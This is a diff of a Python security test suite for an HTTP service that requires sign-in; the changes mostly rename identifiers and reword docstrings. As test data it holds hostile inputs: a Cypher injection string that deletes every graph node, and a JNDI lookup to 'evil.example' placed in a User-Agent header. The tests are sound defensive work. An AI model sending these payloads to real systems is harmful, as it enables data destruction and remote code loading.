@@ -1,5 +1,5 @@
-"""Attacks over HTTP on a service that knows its callers, each with what it gets. Of keys and tokens themselves there
-are more in tests/access, and of the page in tests/web."""
+"""Attacks over HTTP on a service that requires sign-in, each with the expected response. tests/access has further
+tests of keys and tokens, tests/web of the page."""
 
 import json
 
@@ -11,7 +11,7 @@ from service.app import create_app
 from service.repositories import compartments
 from service.security.rate_limits import MAX_FAILURES
 from service.settings import OidcSettings, Settings
-from tests.access.provider import AUDIENCE, ISSUER, SET, saying, serving, token
+from tests.access.provider import AUDIENCE, ISSUER, SET, respond_with, serving, token
 from tests.callers import headers_of
 from tests.conftest import EXAMPLE_CLOCK, open_examples
 
@@ -20,7 +20,7 @@ ASK = "/v1/pathways?from=1&to=34"
 
 @pytest.fixture(scope="module")
 def examples(request, tmp_path_factory):
-    """The examples on Ladybug: who is let in is no matter of the engine."""
+    """The examples on Ladybug; access does not depend on the engine."""
     graph = open_examples("ladybug", request, tmp_path_factory.mktemp("attacked"))
     yield graph
     graph.close()
@@ -28,32 +28,32 @@ def examples(request, tmp_path_factory):
 
 @pytest.fixture(scope="module")
 def sent(examples):
-    """What each kind of caller sends."""
+    """Authorization headers by kind of caller."""
     return headers_of(examples, EXAMPLE_CLOCK)
 
 
 @pytest.fixture(scope="module")
 def jwks():
-    """Where the provider publishes its keys, and what was asked there."""
-    with serving(saying(SET)) as found:
-        yield found
+    """A server that publishes the provider's keys: its URL, and the list of paths requested."""
+    with serving(respond_with(SET)) as provider:
+        yield provider
 
 
 def served(graph, oidc=None, **settings):
-    """The service, without limits unless they are given."""
-    said = {"auth": "on", "rate": 0, "public_rate": 0} | settings
-    return TestClient(create_app(Settings(**said), graph, EXAMPLE_CLOCK, oidc=oidc), raise_server_exceptions=False)
+    """A test client of the service, without rate limits unless set."""
+    values = {"auth": "on", "rate": 0, "public_rate": 0} | settings
+    return TestClient(create_app(Settings(**values), graph, EXAMPLE_CLOCK, oidc=oidc), raise_server_exceptions=False)
 
 
 @pytest.fixture
 def client(examples, jwks):
-    """A new service for each test: what was refused before is forgotten."""
-    with served(examples, OidcSettings(issuer=ISSUER, audience=AUDIENCE, jwks=jwks[0])) as found:
-        yield found
+    """A new service for each test, so that no failed sign-in of another test counts."""
+    with served(examples, OidcSettings(issuer=ISSUER, audience=AUDIENCE, jwks=jwks[0])) as client:
+        yield client
 
 
 def refusal(response):
-    """Status, type, and what the caller is asked for."""
+    """Status, problem type and WWW-Authenticate header of a refusal."""
     assert response.headers["content-type"] == "application/problem+json"
     return response.status_code, response.json()["type"].rpartition(":")[2], response.headers.get("www-authenticate")
 
@@ -62,8 +62,8 @@ NEEDED = (401, "sign-in-needed", 'Bearer realm="firmware-pathways"')
 REFUSED = (401, "credential-refused", 'Bearer realm="firmware-pathways", error="invalid_token"')
 
 
-def headers_that_are_bad(good):
-    """What is sent as authorization."""
+def bad_headers(good):
+    """Unacceptable Authorization headers by description."""
     text = good["Authorization"].removeprefix("Bearer ")
     return {
         "another scheme": [("Authorization", f"Basic {text}")],
@@ -84,11 +84,11 @@ def headers_that_are_bad(good):
     }
 
 
-@pytest.mark.parametrize("bad", headers_that_are_bad({"Authorization": "Bearer x"}))
+@pytest.mark.parametrize("bad", bad_headers({"Authorization": "Bearer x"}))
 @pytest.mark.parametrize("path", [ASK, "/v1/entries/1", "/healthz"])
-def test_what_is_shown_and_is_not_good_is_refused_everywhere(client, sent, bad, path):
-    """Where the public may ask too: whoever thinks that it is known must learn that it is not."""
-    response = client.get(path, headers=headers_that_are_bad(sent["party"])[bad])
+def test_a_bad_credential_is_refused_everywhere(client, sent, bad, path):
+    """A bad credential is refused on public routes as well, so that the caller notices."""
+    response = client.get(path, headers=bad_headers(sent["party"])[bad])
     assert refusal(response) == REFUSED
     assert response.json().keys() == {"type", "title", "status", "detail"}
     assert response.headers["cache-control"] == "no-store"
@@ -115,8 +115,8 @@ def test_what_is_shown_and_is_not_good_is_refused_everywhere(client, sent, bad, 
         ({}, "&role=secas"),
     ],
 )
-def test_nothing_else_makes_a_caller_known(client, sent, headers, query):
-    """One place to show a key, and it is in no log; who says that it is somebody is nobody."""
+def test_only_the_authorization_header_identifies_a_caller(client, sent, headers, query):
+    """Keys in other headers, cookies or the query are ignored, so that no access log holds them."""
     key = sent["secas"]["Authorization"].removeprefix("Bearer ")
     response = client.get(
         ASK + query.format(key=key), headers={name: value.format(key=key) for name, value in headers.items()}
@@ -143,36 +143,36 @@ def test_nothing_else_makes_a_caller_known(client, sent, headers, query):
         "/v1/entries/1/history#",
     ],
 )
-def test_no_spelling_of_an_address_leads_past_the_guard(client, path):
-    """Either it is the same route, or none; never an answer."""
+def test_no_spelling_of_a_path_bypasses_sign_in(client, path):
+    """The path matches the same route or no route; the service never returns a pathway."""
     response = client.get(path)
     assert response.status_code in (401, 404, 422)
     assert "steps" not in response.text
 
 
 @pytest.mark.parametrize("method", ["HEAD", "OPTIONS", "PUT", "DELETE", "PATCH", "TRACE", "GETS", "get"])
-def test_no_other_method_leads_past_the_guard(client, method):
-    """Nor to a page that says more than that it is not taken."""
+def test_no_other_method_bypasses_sign_in(client, method):
+    """The response shows no pathway and allows no other origin."""
     response = client.request(method, ASK)
     assert response.status_code in (401, 405)
     assert "steps" not in response.text
     assert "access-control-allow-origin" not in response.headers
 
 
-def test_a_body_of_nobody_is_not_read(examples):
-    """Who asks is settled first: what is sent by whoever may not is not even looked at."""
+def test_the_body_of_a_caller_without_access_is_not_read(examples):
+    """The service checks access first, and refuses without a call of `receive`."""
     with served(examples) as client:
         for path in ("/v1/pathways", "/v1/impact", "/v1/amendments", "/v1/resolve", "/v1/receipts/verify"):
-            asked = client.post(path, content=b"[" * 100_000, headers={"Content-Type": "application/json"})
-            assert refusal(asked) == NEEDED
-        app, taken = client.app, []
+            response = client.post(path, content=b"[" * 100_000, headers={"Content-Type": "application/json"})
+            assert refusal(response) == NEEDED
+        app, messages = client.app, []
 
         async def receive():
-            taken.append(1)
+            messages.append(1)
             return {"type": "http.request", "body": b"[" * 1_000, "more_body": True}
 
         async def send(message):
-            taken.append(message) if message["type"] == "http.response.start" else None
+            messages.append(message) if message["type"] == "http.response.start" else None
 
         scope = {
             "type": "http",
@@ -188,29 +188,29 @@ def test_a_body_of_nobody_is_not_read(examples):
             "http_version": "1.1",
         }
         client.portal.call(app, scope, receive, send)
-    assert [part["status"] for part in taken if part != 1] == [401]
-    assert 1 not in taken
+    assert [message["status"] for message in messages if message != 1] == [401]
+    assert 1 not in messages
 
 
 CYPHER = "' OR 1=1 MATCH (n) DETACH DELETE n //"
 
 
 @pytest.mark.parametrize("kind", ["party", "own", "ssc", "secas"])
-def test_cypher_in_every_field_is_text(client, sent, examples, kind):
-    """A question that is badly formed, or of nothing; the graph is as it was."""
+def test_cypher_in_every_parameter_is_text(client, sent, examples, kind):
+    """The service answers with a refusal or an empty result, and the graph is unchanged."""
     before = compartments.read_state(examples)
     for path, methods in client.get("/openapi.json").json()["paths"].items():
-        for method, told in methods.items():
-            names = [p["name"] for p in told.get("parameters", []) if p["in"] == "query"]
+        for method, operation in methods.items():
+            names = [p["name"] for p in operation.get("parameters", []) if p["in"] == "query"]
             address = path.replace("{number}", CYPHER).replace("{id}", CYPHER)
-            for given in ({name: CYPHER} for name in names or ["stray"]):
+            for parameters in ({name: CYPHER} for name in names or ["stray"]):
                 body = (
                     {"json": {"edits": [{"entry": CYPHER, "bases": [CYPHER]}], "by": CYPHER}}
                     if method == "post"
                     else {}
                 )
-                response = client.request(method, address, params=given, headers=sent[kind], **body)
-                assert response.status_code < 500, (method, path, given)
+                response = client.request(method, address, params=parameters, headers=sent[kind], **body)
+                assert response.status_code < 500, (method, path, parameters)
                 assert response.status_code != 201
     assert compartments.read_state(examples) == before
 
@@ -222,8 +222,8 @@ DEEP = "[" * 50_000 + "]" * 50_000
     "body", [DEEP, '{"edits": ' + DEEP + "}", '{"a":' * 20_000 + "1" + "}" * 20_000, "\x00" * 10_000]
 )
 @pytest.mark.parametrize("path", ["/v1/pathways", "/v1/pathways/check", "/v1/resolve", "/v1/impact", "/v1/amendments"])
-def test_deep_bodies_are_badly_formed(client, sent, path, body):
-    """No failure of the service."""
+def test_deeply_nested_bodies_are_refused(client, sent, path, body):
+    """The service answers 422, not 500."""
     response = client.post(path, content=body, headers=sent["secas"] | {"Content-Type": "application/json"})
     assert response.status_code == 422
 
@@ -239,8 +239,8 @@ def test_deep_bodies_are_badly_formed(client, sent, path, body):
         ("User-Agent", "%s%n${jndi:ldap://evil.example}"),
     ],
 )
-def test_no_header_comes_back_as_another(client, sent, header, value):
-    """What is sent decides no header of the answer, and no address in it."""
+def test_request_headers_are_not_reflected(client, sent, header, value):
+    """No value of a request header appears in a header or URL of the response."""
     for path in (ASK, "/", "/sign-in", "/v1/nothing"):
         response = client.get(path, headers=sent["party"] | {header: value}, follow_redirects=False)
         assert "evil" not in json.dumps(dict(response.headers))
@@ -248,8 +248,8 @@ def test_no_header_comes_back_as_another(client, sent, header, value):
         assert response.status_code in (200, 404)
 
 
-def test_a_caller_by_token_is_one_as_by_key(client, jwks):
-    """With the rights of its roles; one fetch of the provider's keys is enough for all of them."""
+def test_a_token_grants_the_rights_of_its_roles(client, jwks):
+    """The service fetches the provider's keys once for all requests."""
     before = len(jwks[1])
     for roles, status in ((["party"], 200), (["secas", "ssc"], 200), (["admin"], 403), (None, 403)):
         shown = {"Authorization": f"Bearer {token(roles=roles)}"}
@@ -264,10 +264,10 @@ def test_a_caller_by_token_is_one_as_by_key(client, jwks):
         assert client.post("/v1/impact", json=body, headers=shown).status_code == status
 
 
-def test_while_the_provider_is_away_keys_go_on_working(examples, sent):
-    """A token is answered with when to try again, and not with who is away."""
+def test_api_keys_work_while_the_provider_is_unavailable(examples, sent):
+    """A request with a token gets 503 with Retry-After, and not the provider's URL."""
     with (
-        serving(saying(b"", 500)) as (url, _),
+        serving(respond_with(b"", 500)) as (url, _),
         served(examples, OidcSettings(issuer=ISSUER, audience=AUDIENCE, jwks=url)) as client,
     ):
         response = client.get(ASK, headers={"Authorization": f"Bearer {token()}"})
@@ -277,19 +277,19 @@ def test_while_the_provider_is_away_keys_go_on_working(examples, sent):
         assert client.get(ASK, headers=sent["party"]).status_code == 200
 
 
-def test_without_a_provider_no_token_is_taken(examples):
-    """However good it is."""
+def test_tokens_are_refused_without_a_provider(examples):
+    """Even a valid token is refused."""
     with served(examples) as client:
         assert refusal(client.get(ASK, headers={"Authorization": f"Bearer {token()}"})) == REFUSED
 
 
-def test_a_caller_learns_what_is_left_and_when_to_come_back(examples, sent):
-    """By headers, on answers and refusals alike; others are not in its way, and probes are not in anybody's."""
+def test_rate_limit_headers_state_the_rest_and_the_retry_time(examples, sent):
+    """Each caller has a limit of its own; probes and unknown paths have none."""
     with served(examples, rate=3, public_rate=2) as client:
         party = [client.get(ASK, headers=sent["party"]) for _ in range(4)]
         assert [response.status_code for response in party] == [200, 200, 200, 429]
         assert [response.headers["ratelimit"].split(";")[:2] for response in party[:3]] == [
-            ['"minute"', f"r={left}"] for left in (2, 1, 0)
+            ['"minute"', f"r={rest}"] for rest in (2, 1, 0)
         ]
         assert party[0].headers["ratelimit-policy"] == '"minute";q=3;w=60'
         assert 1 <= int(party[3].headers["retry-after"]) <= 60
@@ -300,8 +300,8 @@ def test_a_caller_learns_what_is_left_and_when_to_come_back(examples, sent):
         assert client.get("/v1/nothing").status_code == 404
 
 
-def test_guessing_is_slowed_and_does_not_lock_others_out(examples, sent):
-    """From an address with too many wrong keys no other is looked at; one that was good before goes on."""
+def test_guessing_keys_is_limited_per_address(examples, sent):
+    """After too many wrong keys the service checks no new key from that address; a key accepted before still works."""
     with served(examples) as client:
         assert client.get(ASK, headers=sent["party"]).status_code == 200
         wrong = {"Authorization": "Bearer pathways_nobody00_" + "x" * 43}
@@ -312,8 +312,8 @@ def test_guessing_is_slowed_and_does_not_lock_others_out(examples, sent):
         assert client.get("/v1/entries/1").status_code == 200
 
 
-def test_answers_are_kept_by_no_cache_that_others_share(client, sent):
-    """What one may see must not be handed to another."""
+def test_responses_forbid_shared_caches(client, sent):
+    """A shared cache could return the response of one caller to another."""
     for path in (ASK, "/v1/entries/1", "/"):
         headers = client.get(path, headers=sent["party"]).headers
         assert headers["cache-control"] == "private, no-cache"
@@ -323,15 +323,15 @@ def test_answers_are_kept_by_no_cache_that_others_share(client, sent):
 
 
 def test_no_secret_is_logged(client, sent):
-    """Whatever becomes of the request."""
+    """The log holds neither accepted nor refused credentials."""
     with structlog.testing.capture_logs() as logged:
         for kind, headers in sent.items():
             client.get(ASK, headers=headers)
             if kind != "public":
                 client.get(ASK, headers={"Authorization": headers["Authorization"][:-1]})
         client.get(ASK, headers={"Authorization": f"Bearer {token(exp=1)}"})
-    said = str(logged)
-    assert said.count("refused") >= 6
+    text = str(logged)
+    assert text.count("refused") >= 6
     secrets = [headers["Authorization"].split("_", 2)[2] for headers in sent.values() if headers]
     assert len(secrets) == 5
-    assert not any(secret[:20] in said or secret[-21:-1] in said for secret in secrets)
+    assert not any(secret[:20] in text or secret[-21:-1] in text for secret in secrets)
